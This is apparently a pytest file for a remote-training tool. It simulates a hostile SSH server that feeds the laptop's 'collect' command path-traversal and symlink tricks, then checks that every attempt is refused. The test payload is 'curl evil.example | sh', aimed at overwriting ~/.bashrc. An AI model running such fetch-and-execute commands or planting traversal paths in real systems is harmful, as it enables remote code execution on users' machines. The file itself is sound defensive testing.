"""collect against a hostile or busy server, over the real sshd.

The server side is real (a detached pipeline run of a command stage); where the
test needs a hostile server, the server's Python is a small wrapper whose
``pipeline-files`` answers with the real agent's listing, altered as ``plan.json``
says, between the real agent's markers. The laptop code is not patched.
"""

from __future__ import annotations

import hashlib
import json
import os
import stat
import sys
import time
from pathlib import Path

from hypothesis import given, settings, strategies as st

from tests.conftest import ssh_alias, trust

TOML = """
[pipeline]
heartbeat_seconds = 1.0
poll_seconds = 0.3

[stages.mine]
command = "bash mine.sh"
{extra}
"""

HOSTILE = r'''
import json, subprocess, sys, time
from pathlib import Path
from remoteops.common.wire import BEGIN, END, parse_marked

plan = json.loads((Path(__file__).parent / "plan.json").read_text())
real = subprocess.run([sys.executable, *sys.argv[1:]], capture_output=True, text=True)
listing = parse_marked(real.stdout)
listing["files"] += plan.get("extra", [])
if "now_shift" in plan:
    listing["now"] = listing.get("now", time.time()) + plan["now_shift"]
sys.stdout.write(f"\n{BEGIN}\n{json.dumps(listing)}\n{END}\n")
'''


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


class Server:
    """The server side of one test: its project root and its (possibly hostile) Python."""

    def __init__(self, root: Path, bin_dir: Path):
        self.root, self.bin = root, bin_dir

    def env(self, **extra: str) -> dict:
        return {"REMOTEOPS_REMOTE_PYTHON": str(self.bin / "python"),
                "TRAIN_SYNC_PROJECT_ROOT": str(self.root), "REMOTEOPS_GPU_GATE": "warn",
                **extra}

    def plan(self, **plan) -> None:
        (self.bin / "plan.json").write_text(json.dumps(plan))

    def run_dir(self, run_id: str) -> Path:
        return self.root / "outputs" / "training_sync" / run_id

    def state(self, run_id: str) -> dict:
        return json.loads((self.run_dir(run_id) / "state.json").read_text())


def make_server(tmp_path: Path, project: Path, home: Path, sshd_server, script: str,
                extra_toml: str = "") -> Server:
    """Same remoteops.toml on both sides (no deploy: the test writes the server's files)."""
    root = tmp_path / "server" / "proj"
    root.mkdir(parents=True)
    for side in (root, project):
        (side / "remoteops.toml").write_text(TOML.format(extra=extra_toml))
        (side / "mine.sh").write_text(script)
    bin_dir = tmp_path / "server" / "bin"
    bin_dir.mkdir()
    (bin_dir / "hostile.py").write_text(HOSTILE)
    wrapper = bin_dir / "python"
    wrapper.write_text(f'#!/bin/bash\nif [ "$1 $2 $3" = "-m remoteops.agent pipeline-files" ]; '
                       f'then exec {sys.executable} {bin_dir / "hostile.py"} "$@"; fi\n'
                       f'exec {sys.executable} "$@"\n')
    wrapper.chmod(0o755)
    server = Server(root, bin_dir)
    server.plan()
    ssh_alias(home, "box", sshd_server)
    trust(project, sshd_server)
    return server


def run_stage(cli, server: Server, detach: bool = False) -> str:
    args = ["remote-train", "--host", "box", "--yes", "--no-deploy", "--stages", "mine"]
    res = cli(*args, *(["--detach"] if detach else []), env=server.env(), timeout=120)
    assert res.returncode == 0, res.stdout + res.stderr
    return res.stdout.split("started ")[1].split()[0]


def tree(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*")) if folder.exists() \
        else []


def test_hostile_listing_is_refused_and_nothing_outside_outputs_is_touched(
        cli, project, home, tmp_path, sshd_server):
    server = make_server(tmp_path, project, home, sshd_server, "echo trained\n")
    bashrc = home / ".bashrc"
    bashrc.write_bytes(b"# the user's own shell setup\nexport PATH=$HOME/bin:$PATH\n")
    before = bashrc.read_bytes()
    payload = b"curl evil.example | sh  # written by a hostile server\n"
    run_id = run_stage(cli, server, detach=True)
    # let the run finish, with the laptop's outputs left empty (detached: nothing collected)
    deadline = time.monotonic() + 60
    while server.state(run_id).get("runner", {}).get("exited") is None:
        assert time.monotonic() < deadline
        time.sleep(0.2)
    cases = [
        ("../home/.bashrc", server.root.parent / "home" / ".bashrc"),
        (str(bashrc), Path(str(server.root) + "/" + str(bashrc))),
        (f"outputs/training_sync/{run_id}/../../../../home/.bashrc",
         server.root.parent / "home" / ".bashrc"),
        # inside the project but neither under outputs/ nor a declared output
        ("mine.sh", server.root / "mine.sh"),
        # a link planted on the laptop must not carry the write out of outputs/
        ("outputs/adapter/.bashrc", server.root / "outputs" / "adapter" / ".bashrc"),
    ]
    (project / "outputs").mkdir()
    (project / "outputs" / "adapter").symlink_to(home, target_is_directory=True)
    for listed, served in cases:
        # the server really serves the payload at the path it names, so a laptop that
        # trusted the listing would overwrite ~/.bashrc with it
        served.parent.mkdir(parents=True, exist_ok=True)
        served.write_bytes(payload)
        server.plan(extra=[{"path": listed, "size": len(payload), "mtime": time.time(),
                            "sha256": sha(payload)}])
        res = cli("collect", "--host", "box", "--run", run_id, env=server.env())
        assert res.returncode == 2, (listed, res.stdout, res.stderr)
        lines = res.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith(
            f"error: collect refused the server's path {listed!r}"), res.stderr
        assert "Traceback" not in res.stderr
        assert bashrc.read_bytes() == before, listed
        assert (project / "mine.sh").read_text() == "echo trained\n"
        assert tree(home) == [".bashrc", ".ssh", ".ssh/config"]
        # the whole listing is refused: not even the legitimate files were written
        assert tree(project / "outputs") == ["adapter"], listed
    # a link planted at a destination is refused too, by name
    (project / "outputs" / "adapter").unlink()
    log = project / "outputs" / "training_sync" / run_id / "logs" / "mine.log"
    log.parent.mkdir(parents=True)
    log.symlink_to(bashrc)
    server.plan()
    res = cli("collect", "--host", "box", "--run", run_id, env=server.env())
    assert res.returncode == 2 and "logs/mine.log" in res.stderr and "symbolic link" in \
        res.stderr, res.stderr
    assert bashrc.read_bytes() == before
    # with an honest listing and no planted link, collect works and is verified
    log.unlink()
    res = cli("collect", "--host", "box", "--run", run_id, "--json", env=server.env())
    assert res.returncode == 0, res.stderr
    local = project / "outputs" / "training_sync" / run_id
    assert (local / "logs" / "mine.log").read_bytes() == \
        (server.run_dir(run_id) / "logs" / "mine.log").read_bytes()
    assert bashrc.read_bytes() == before


GROW = """echo started
i=0
while [ $i -lt 3000 ]; do echo "line $i of a log that keeps growing"; i=$((i+1)); sleep 0.01; done
"""


def test_collect_during_a_live_run_skips_the_growing_log_and_brings_the_rest(
        cli, project, home, tmp_path, sshd_server):
    server = make_server(tmp_path, project, home, sshd_server, GROW)
    run_id = run_stage(cli, server, detach=True)
    log = server.run_dir(run_id) / "logs" / "mine.log"
    deadline = time.monotonic() + 30
    while not log.is_file() or log.stat().st_size < 200:
        assert time.monotonic() < deadline
        time.sleep(0.1)
    started = time.monotonic()
    res = cli("collect", "--host", "box", "--run", run_id, "--json", env=server.env())
    took = time.monotonic() - started
    try:
        assert res.returncode == 0, res.stdout + res.stderr
        data = json.loads(res.stdout)
        rel = f"outputs/training_sync/{run_id}/logs/mine.log"
        assert {"path": rel, "reason": "still being written on the server"} in data["skipped"]
        assert rel not in data["fetched"]
        assert f"outputs/training_sync/{run_id}/state.json" in data["fetched"]
        warning = [l for l in res.stderr.splitlines() if l.startswith("warning: skipped")]
        assert len(warning) == 1 and rel in warning[0] and "invoke collect" in warning[0]
        local = project / "outputs" / "training_sync" / run_id
        assert json.loads((local / "state.json").read_text())["run_id"] == run_id
        assert not (local / "logs" / "mine.log").exists()  # never a torn copy
        assert took < 30
    finally:
        res = cli("cancel", "--host", "box", "--run", run_id, env=server.env())
        assert res.returncode == 0, res.stderr
    # once the writer has stopped, the log arrives whole
    res = cli("collect", "--host", "box", "--run", run_id, "--json", env=server.env())
    assert res.returncode == 0 and json.loads(res.stdout)["skipped"] == [], res.stderr
    assert (project / "outputs" / "training_sync" / run_id / "logs" / "mine.log").read_bytes() \
        == log.read_bytes()


def test_since_is_judged_by_the_servers_clock(cli, project, home, tmp_path, sshd_server):
    server = make_server(tmp_path, project, home, sshd_server, "echo trained\n")
    run_id = run_stage(cli, server)  # follows the run and collects everything once
    run = server.run_dir(run_id)
    now = time.time()
    old, recent, ahead = run / "old.txt", run / "recent.txt", run / "ahead.txt"
    old.write_text("two hours behind real time\n")
    recent.write_text("written just now, in real time\n")
    ahead.write_text("two hours ahead of real time\n")
    os.utime(old, (now - 7200, now - 7200))
    os.utime(ahead, (now + 7200, now + 7200))
    # the server's clock is three hours ahead of the laptop's: by its clock, ahead.txt changed
    # an hour ago, recent.txt three hours ago and old.txt five hours ago
    server.plan(now_shift=3 * 3600)
    res = cli("collect", "--host", "box", "--run", run_id, "--since", "90m", "--json",
              env=server.env())
    assert res.returncode == 0, res.stderr
    assert json.loads(res.stdout)["fetched"] == [f"outputs/training_sync/{run_id}/ahead.txt"]
    res = cli("collect", "--host", "box", "--run", run_id, "--since", "4h", "--json",
              env=server.env())
    assert json.loads(res.stdout)["fetched"] == [f"outputs/training_sync/{run_id}/recent.txt"]
    res = cli("collect", "--host", "box", "--since", "ten minutes", env=server.env())
    assert res.returncode == 2 and res.stderr.startswith("error: --since 'ten minutes'") and \
        len(res.stderr.strip().splitlines()) == 1


def test_since_parsing_and_cutoffs():
    from remoteops.laptop.collect import Since, parse_since

    assert parse_since("10") == Since(seconds=600)
    assert parse_since("90s") == Since(seconds=90)
    assert parse_since("2h") == Since(seconds=7200)
    assert parse_since("1d") == Since(seconds=86400)
    assert parse_since(None) is None
    assert parse_since("10m").cutoff(server_now=5000.0, offset=-99.0) == 4400.0
    at = parse_since("2026-11-26T14:00:00Z")
    assert at.at == 1795701600.0
    # an absolute time on the laptop's clock moves by the measured offset
    assert at.cutoff(server_now=0.0, offset=3600.0) == 1795701600.0 + 3600


def test_a_command_stage_declared_output_is_collected_and_an_escaping_one_is_reported(
        cli, project, home, tmp_path, sshd_server):
    script = ("mkdir -p outputs/custom models && printf 'weights' > outputs/custom/model.bin\n"
              "printf 'final' > models/final.bin\necho outside > ../escaped.bin\n")
    server = make_server(tmp_path, project, home, sshd_server, script,
                         'outputs = ["outputs/custom", "models/final.bin"]')
    res = cli("remote-train", "--host", "box", "--yes", "--no-deploy", "--stages", "mine",
              "--json", env=server.env(), timeout=120)
    assert res.returncode == 0, res.stdout + res.stderr
    run_id = json.loads(res.stdout[res.stdout.index("\n{") + 1:])["run_id"]
    assert "outputs/custom" in json.dumps(server.state(run_id)["stages"][0]["outputs"])
    assert (project / "outputs" / "custom" / "model.bin").read_bytes() == b"weights"
    # outside outputs/ too, because the laptop's own config declares it
    assert (project / "models" / "final.bin").read_bytes() == b"final"
    # the config refuses an escaping output; a tampered state.json that declares one anyway
    # gets it refused by the server's listing, reported, and never listed
    state_file = server.run_dir(run_id) / "state.json"
    state = json.loads(state_file.read_text())
    state["stages"][0]["outputs"]["declared"].append("../escaped.bin")
    state_file.write_text(json.dumps(state))
    res = cli("collect", "--host", "box", "--run", run_id, "--json", env=server.env())
    assert res.returncode == 0, res.stderr
    data = json.loads(res.stdout)
    assert {"stage": "mine", "path": "../escaped.bin", "reason": "outside the project root"} \
        in data["refused"]
    assert "../escaped.bin" in res.stderr and "outside the project root" in res.stderr
    assert not (project.parent / "escaped.bin").exists()


def test_server_listing_hashes_exactly_the_listed_bytes_and_skips_escaping_links(tmp_path):
    from remoteops.server.collect_list import list_run_files

    project = tmp_path / "proj"
    run = project / "outputs" / "training_sync" / "run_x"
    run.mkdir(parents=True)
    (run / "a.txt").write_text("abc")
    (run / "leak").symlink_to("/etc/hostname")
    (project / "outputs" / "adapter").mkdir()
    (project / "outputs" / "adapter" / "w.bin").write_bytes(b"w")
    state = {"run_id": "run_x", "status": "done", "stages": [
        {"name": "a", "outputs": {"adapter": "outputs/adapter"}},
        {"name": "b", "outputs": ["/etc", "outputs/../../x", "outputs/adapter/w.bin"]}]}
    listing = list_run_files(project, run, state)
    paths = [f["path"] for f in listing["files"]]
    assert paths == ["outputs/training_sync/run_x/a.txt", "outputs/adapter/w.bin"]
    assert listing["files"][0]["sha256"] == sha(b"abc") and listing["files"][0]["size"] == 3
    assert {r["path"] for r in listing["refused"]} == {
        "/etc", "outputs/../../x", "outputs/training_sync/run_x/leak"}
    assert abs(listing["now"] - time.time()) < 5
    assert stat.S_ISLNK(os.lstat(run / "leak").st_mode)

_SEGMENT = st.sampled_from(["outputs", "..", ".", "", "a", "adapter", "~", "/", "\\", "\0",
                            "C:", "x..y", " ", "é"])


@settings(max_examples=400, deadline=None)
@given(st.one_of(st.lists(_SEGMENT, max_size=6).map("/".join), st.text(max_size=40)))
def test_fuzz_a_name_is_either_refused_or_stays_inside_outputs(name):
    from remoteops.common.errors import RemoteOpsError
    from remoteops.laptop.safe_write import UnsafePath, safe_parts

    base = Path("/nonexistent/project")
    try:
        parts = safe_parts(name)
    except UnsafePath as exc:
        assert isinstance(exc, RemoteOpsError) and "\n" not in str(exc).replace(repr(name), "")
        return
    joined = os.path.normpath(os.path.join(base, *parts))
    assert joined.startswith(str(base / "outputs") + os.sep)
    assert parts[0] == "outputs" and ".." not in parts and "" not in parts


def test_declared_outputs_widen_the_write_area_exactly():
    from remoteops.laptop.safe_write import UnsafePath, safe_parts

    areas = ["outputs", "models/final.bin", "exports"]
    assert safe_parts("models/final.bin", areas) == ["models", "final.bin"]
    assert safe_parts("exports/a/b.bin", areas) == ["exports", "a", "b.bin"]
    for bad in ("models/final.bin.evil", "models/other.bin", "outputs", "export/x",
                "exports/../x", "tasks.py", "outputs/\x1b[2Jcleared", "outputs/a\nb"):
        try:
            safe_parts(bad, areas)
        except UnsafePath as exc:
            assert repr(bad) in str(exc)
        else:
            raise AssertionError(bad)
